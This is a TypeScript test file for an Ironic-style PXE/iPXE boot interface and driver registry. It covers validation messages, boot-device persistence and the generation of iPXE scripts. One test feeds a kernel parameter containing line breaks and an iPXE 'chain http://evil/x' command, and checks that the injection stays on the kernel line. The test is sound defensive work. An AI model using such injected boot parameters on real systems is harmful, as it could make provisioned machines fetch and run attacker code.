import type { NodeRecord } from '@ferrum/contracts';
import { InvalidParameterValue, MissingParameterValue, UnsupportedDriverExtension } from '@ferrum/errors';
import { DriverRegistry } from '../driver-registry';
import type { BootDevice, ManagementInterface } from '../interfaces/management.interface';
import type { ExclusiveTask } from '../task';
import { PxeBoot } from './pxe-boot';

const UUID = '1be26c0b-03f2-4d2e-ae87-c02d7f33c123';

function task(node: Partial<NodeRecord>, ports: string[] = ['52:54:00:12:34:56']) {
  const calls: [BootDevice, boolean][] = [];
  const management = {
    validate: async () => undefined,
    setBootDevice: async (_t: unknown, device: BootDevice, persistent: boolean) => void calls.push([device, persistent]),
  } as unknown as ManagementInterface;
  const t = {
    node: { uuid: UUID, driver: 'ipmi', provision_state: 'deploying', boot_mode: null, properties: {}, instance_info: {}, driver_info: { deploy_kernel: 'k', deploy_ramdisk: 'r' }, ...node } as NodeRecord,
    shared: false,
    portAddresses: async () => ports,
    interfaceOf: (kind: string) => (kind === 'management' ? management : undefined),
  } as unknown as ExclusiveTask;
  return { t, calls };
}

describe('PxeBoot (Ironic pxe / ipxe boot interfaces)', () => {
  const boot = new PxeBoot(true);

  it('describes the driver_info it reads with Ironic\'s texts', () => {
    expect(Object.keys(boot.getProperties()).sort()).toEqual(['deploy_kernel', 'deploy_ramdisk', 'force_persistent_boot_device', 'kernel_append_params', 'rescue_kernel', 'rescue_ramdisk']);
    expect(boot.getProperties().deploy_ramdisk).toBe('UUID (from Glance) of the ramdisk that is mounted at boot time. Required.');
  });

  it('validates ports, capabilities, image source with boot_iso, and the deploy kernel and ramdisk, with Ironic\'s messages', async () => {
    await expect(boot.validate(task({}).t)).resolves.toBeUndefined();
    await expect(boot.validate(task({}, []).t)).rejects.toThrow(new MissingParameterValue({ message: `Node ${UUID} does not have any port associated with it` }));
    await expect(boot.validate(task({ properties: { capabilities: 'boot_mode:legacy' } }).t)).rejects.toThrow(
      "The parameter 'boot_mode' from properties/capabilities has an invalid value: 'legacy'. Acceptable values are: bios, uefi.",
    );
    await expect(boot.validate(task({ instance_info: { capabilities: '{"secure_boot": "maybe"}' } }).t)).rejects.toThrow(
      "The parameter 'secure_boot' from instance_info['capabilities'] has an invalid value: 'maybe'. Acceptable values are: true, false.",
    );
    await expect(boot.validate(task({ instance_info: { image_source: 'http://x/img', boot_iso: 'http://x/iso' } }).t)).rejects.toThrow(InvalidParameterValue);
    await expect(boot.validate(task({ driver_info: { deploy_kernel: 'k' } }).t)).rejects.toThrow(
      "Cannot validate PXE bootloader. Some parameters were missing in node's driver_info and configuration. Missing are: ['deploy_ramdisk']",
    );
    await expect(boot.validate(task({ driver_info: {} }).t)).rejects.toThrow("Missing are: ['deploy_kernel', 'deploy_ramdisk']");
  });

  it('boots the ramdisk from the network once, then the instance from disk for good, as force_persistent_boot_device allows', async () => {
    const normal = task({});
    await boot.prepareRamdisk(normal.t, {});
    await boot.prepareInstance(normal.t);
    expect(normal.calls).toEqual([['pxe', false], ['disk', true]]);

    const always = task({ driver_info: { deploy_kernel: 'k', deploy_ramdisk: 'r', force_persistent_boot_device: 'Always' } });
    await boot.prepareRamdisk(always.t, {});
    expect(always.calls).toEqual([['pxe', true]]);
    const never = task({ driver_info: { deploy_kernel: 'k', deploy_ramdisk: 'r', force_persistent_boot_device: 'Never' } });
    await boot.prepareInstance(never.t);
    expect(never.calls).toEqual([['disk', false]]);
    const legacy = task({ driver_info: { deploy_kernel: 'k', deploy_ramdisk: 'r', force_persistent_boot_device: 'True' } });
    await boot.prepareRamdisk(legacy.t, {});
    expect(legacy.calls).toEqual([['pxe', true]]);
  });

  it('changes nothing on an active or adopting node, and needs the rescue kernel and ramdisk while rescuing', async () => {
    const active = task({ provision_state: 'active' });
    await boot.prepareInstance(active.t);
    const adopting = task({ provision_state: 'adopting' });
    await boot.prepareRamdisk(adopting.t, {});
    expect([...active.calls, ...adopting.calls]).toEqual([]);
    await expect(boot.prepareRamdisk(task({ provision_state: 'rescuing' }).t, {})).rejects.toThrow("Missing are: ['rescue_kernel', 'rescue_ramdisk']");
  });
});

describe('DriverRegistry with pxe and ipxe', () => {
  const registry = new DriverRegistry({ enabledHardwareTypes: ['fake-hardware', 'manual-management', 'ipmi', 'redfish'] });

  it('gives ipmi, redfish and manual-management nodes ipxe boot and direct deploy, never fake', () => {
    for (const driver of ['ipmi', 'redfish', 'manual-management']) {
      expect(registry.resolveInterfaces(driver, {})).toMatchObject({ boot_interface: 'ipxe', deploy_interface: 'direct' });
      // redfish adds its virtual media after them, as Ironic does.
      expect(registry.hardwareType(driver).supported.boot).toEqual(driver === 'redfish' ? ['ipxe', 'pxe', 'redfish-virtual-media'] : ['ipxe', 'pxe']);
      expect(registry.hardwareType(driver).supported.deploy).not.toContain('fake');
    }
  });

  it('answers the logical disk properties of the default RAID interface, and refuses one that cannot tell', () => {
    expect(Object.keys(registry.raidLogicalDiskProperties('ipmi'))).toHaveLength(10);
    expect(registry.raidLogicalDiskProperties('fake-hardware').raid_level).toBe(
      "RAID level for the logical disk. Valid values are 'JBOD', '0', '1', '2', '5', '6', '1+0', '5+0' and '6+0'. Required.",
    );
    const bare = new DriverRegistry({
      enabledHardwareTypes: ['bare'],
      enabledInterfaces: { raid: ['bare'] },
      plugins: [
        {
          register: (api) => {
            api.addInterface('raid', 'bare', () => ({ getProperties: () => ({}), validate: async () => undefined }));
            api.addHardwareType({ name: 'bare', supported: { ...registry.hardwareType('fake-hardware').supported, raid: ['bare'] } });
          },
        },
      ],
    });
    expect(() => bare.raidLogicalDiskProperties('bare')).toThrow(UnsupportedDriverExtension);
  });

  describe("ipxe: the node's iPXE configuration, while its ramdisk is prepared", () => {
    const boot = new PxeBoot(true);
    function withStore(node: Partial<NodeRecord>) {
      const { t, calls } = task(node);
      const written: (string | null)[] = [];
      const netboot = {
        apiUrl: 'http://192.0.2.1:6385',
        kernelAppendParams: 'nofb nomodeset vga=normal',
        write: async (script: string) => void written.push(script),
        remove: async () => void written.push(null),
      };
      return { t: { ...t, netboot } as unknown as ExclusiveTask, calls, written };
    }
    const KERNEL = { deploy_kernel: 'http://files/agent.kernel', deploy_ramdisk: 'http://files/agent.initramfs' };

    it('boots the agent by URL with ipa-api-url, the ramdisk parameters, the kernel parameters and BOOTIF; removed again by the clean-ups', async () => {
      const s = withStore({ driver_info: KERNEL });
      await boot.prepareRamdisk(s.t, { 'ipa-inspection-callback-url': 'http://192.0.2.1:6385/v1/continue_inspection' });
      expect(s.written[0]?.split('\n')).toEqual([
        '#!ipxe',
        ':retry_boot',
        'imgfree',
        'kernel --timeout 60000 http://files/agent.kernel nofb nomodeset vga=normal ipa-api-url=http://192.0.2.1:6385 ipa-inspection-callback-url=http://192.0.2.1:6385/v1/continue_inspection BOOTIF=${mac} initrd=deploy_ramdisk || goto retry',
        'initrd --name deploy_ramdisk --timeout 60000 http://files/agent.initramfs || goto retry',
        'boot',
        ':retry',
        'sleep 1',
        'goto retry_boot',
        '',
      ]);
      expect(s.calls).toEqual([['pxe', false]]);
      await boot.cleanUpRamdisk(s.t);
      await boot.prepareInstance(s.t);
      expect(s.written.slice(1)).toEqual([null, null]);
    });

    it("uses the node's kernel_append_params, %default% standing for the configured ones, and the rescue ramdisk when rescuing", async () => {
      const s = withStore({
        provision_state: 'rescuing',
        driver_info: { ...KERNEL, rescue_kernel: 'http://files/r.kernel', rescue_ramdisk: 'http://files/r.initramfs', kernel_append_params: '%default% console=ttyS0' },
      });
      await boot.prepareRamdisk(s.t, {});
      expect(s.written[0]).toContain('kernel --timeout 60000 http://files/r.kernel nofb nomodeset vga=normal console=ttyS0 ipa-api-url=http://192.0.2.1:6385 BOOTIF=${mac} initrd=rescue_ramdisk ||');
      expect(s.written[0]).toContain('initrd --name rescue_ramdisk --timeout 60000 http://files/r.initramfs ||');
    });

    it('keeps kernel parameters on the kernel line: a line break in them cannot add an iPXE command', async () => {
      const s = withStore({ driver_info: { ...KERNEL, kernel_append_params: 'quiet\nshell\r\nchain http://evil/x' } });
      await boot.prepareRamdisk(s.t, {});
      expect(s.written[0]?.split('\n')[3]).toBe(
        'kernel --timeout 60000 http://files/agent.kernel quiet shell chain http://evil/x ipa-api-url=http://192.0.2.1:6385 BOOTIF=${mac} initrd=deploy_ramdisk || goto retry',
      );
      expect(s.written[0]?.split('\n')).toHaveLength(10);
    });

    it('refuses a kernel iPXE cannot fetch (Ferrum keeps no image cache), writing nothing and leaving the boot device', async () => {
      const s = withStore({ driver_info: { deploy_kernel: 'glance-uuid', deploy_ramdisk: 'http://files/agent.initramfs' } });
      await expect(boot.prepareRamdisk(s.t, {})).rejects.toThrow(
        "Ferrum's iPXE boot has the machine fetch the ramdisk itself: driver_info/deploy_kernel must be an http, https or tftp URL, not 'glance-uuid'",
      );
      expect({ written: s.written, calls: s.calls }).toEqual({ written: [], calls: [] });
    });

    it('writes nothing for the pxe interface (no PXELINUX configuration)', async () => {
      const s = withStore({ driver_info: KERNEL });
      await new PxeBoot(false).prepareRamdisk(s.t, {});
      expect({ written: s.written, calls: s.calls }).toEqual({ written: [], calls: [['pxe', false]] });
    });
  });
});
